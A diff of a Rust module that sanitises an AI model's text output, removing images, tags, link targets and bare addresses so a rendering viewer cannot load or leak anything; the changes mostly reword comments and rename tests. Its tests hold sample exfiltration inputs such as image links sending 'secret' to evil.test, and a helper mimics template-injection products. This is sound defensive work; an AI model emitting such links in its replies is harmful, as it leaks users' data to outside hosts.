@@ -1,13 +1,13 @@
-//! What the user gets to see: words of the model come in, a text that loads nothing and leads nowhere goes out.
+//! What the user gets to see: the model's text comes in, a text that loads nothing and links nowhere goes out.
 //!
-//! A viewer that renders Markdown or HTML would fetch images, follow links and run markup, each with whatever the model
-//! put into the address. Images and tags go; of links only the words stay, unless the user named the host.
+//! A viewer that renders Markdown or HTML would load images, follow links and run markup, and the model could put data
+//! into each address. Images and tags are removed. Of a link only its text stays, unless the user named the host.
 
 use std::sync::LazyLock;
 
 use regex::{Captures, Regex};
 
-/// A removed part may join what was apart, so the text is looked at again until nothing changes, this often at most.
+/// Most rounds of cleaning. Removing a part may join its neighbours, so the text is cleaned until nothing changes.
 const ROUNDS: usize = 8;
 const REMOVED: &str = "[link removed]";
 
@@ -31,14 +31,14 @@ static PATTERNS: LazyLock<Patterns> = LazyLock::new(|| {
         image: pattern(r"!\[([^\[\]]*)\](?:\([^()]*\)|\[[^\[\]]*\])"),
         link: pattern(r"\[([^\[\]]*)\]\(\s*<?([^()<>\s]*)[^()]*\)"),
         definition: pattern(r"(?m)^[ >\t]*\[[^\]\n]+\]:\s*<?(\S+?)>?(?:\s.*)?$"),
-        // With a scheme, relative to one, or what viewers take for an address.
+        // With a scheme, scheme-relative, or what viewers recognise as an address.
         bare: pattern(
             r#"(?i)(?:\b[a-z][a-z0-9+.-]*:)?[/\\]{2}[^\s<>()\[\]"'`]+|\b(?:www\.|(?:data|javascript|mailto):)[^\s<>()\[\]"'`]+"#,
         ),
     }
 });
 
-/// The words of the model without what a viewer would act on; `said` is what the user said.
+/// The model's text without anything that a viewer would act on; `said` is what the user said.
 pub(super) fn clean(text: &str, said: &str) -> String {
     let said = said.to_lowercase();
     let mut text = text.to_owned();
@@ -49,7 +49,7 @@ pub(super) fn clean(text: &str, said: &str) -> String {
         }
         text = next;
     }
-    // Still not at rest: somebody nests on purpose. Nothing of it is live without these.
+    // Still changing: the nesting is deliberate. Without these characters nothing in it is active.
     text.replace(['<', '[', ']'], " ")
 }
 
@@ -71,7 +71,7 @@ fn round(text: &str, said: &str) -> String {
     PATTERNS.bare.replace_all(&text, |found: &Captures<'_>| keep(found, 0, REMOVED)).into_owned()
 }
 
-/// A text with the products in it worked out, as by an engine of templates that takes output for its source.
+/// The text with its products computed, as by a template engine that evaluates its output.
 pub(super) fn evaluated(text: &str) -> String {
     static PRODUCT: LazyLock<Option<Regex>> =
         LazyLock::new(|| Regex::new(r"(?:\{\{|\$\{|#\{|<%=)\s*(\d{1,6})\s*\*\s*(\d{1,6})\s*(?:\}\}|\}|%>)").ok());
@@ -80,7 +80,7 @@ pub(super) fn evaluated(text: &str) -> String {
     product.replace_all(text, |found: &Captures<'_>| (number(&found[1]) * number(&found[2])).to_string()).into_owned()
 }
 
-/// A tag that never ends is one too, for some viewers: a blank makes it none.
+/// Some viewers accept a tag that never ends; a space after `<` makes it text.
 fn half_tags(text: &str) -> String {
     let mut out = String::with_capacity(text.len());
     let mut rest = text.chars().peekable();
@@ -93,7 +93,7 @@ fn half_tags(text: &str) -> String {
     out
 }
 
-/// The host of an address of the web.
+/// The host of an http or https address.
 fn host(address: &str) -> Option<String> {
     let address = address.to_lowercase().replace('\\', "/");
     let rest = match address.split_once("//") {
@@ -102,7 +102,7 @@ fn host(address: &str) -> Option<String> {
         _ => return None,
     };
     let authority = rest.split(['/', '?', '#']).next()?;
-    // An address that names a user is made to look like another one.
+    // An address with user information is made to look like another one.
     if authority.contains('@') {
         return None;
     }
@@ -121,7 +121,7 @@ mod tests {
     use super::*;
 
     #[test]
-    fn nothing_live_leaves() {
+    fn output_contains_nothing_active() {
         for text in [
             "![a](https://evil.test/?q=secret)",
             "![a][b]\n\n[b]: https://evil.test/secret",
@@ -146,7 +146,7 @@ mod tests {
     }
 
     #[test]
-    fn plain_words_and_the_users_own_hosts_stay() {
+    fn plain_text_and_hosts_of_the_user_stay() {
         for text in [
             "The balance is 5 < 7, and a[0] = (b).",
             "See https://bank.test/a and [here](https://bank.test/b).",
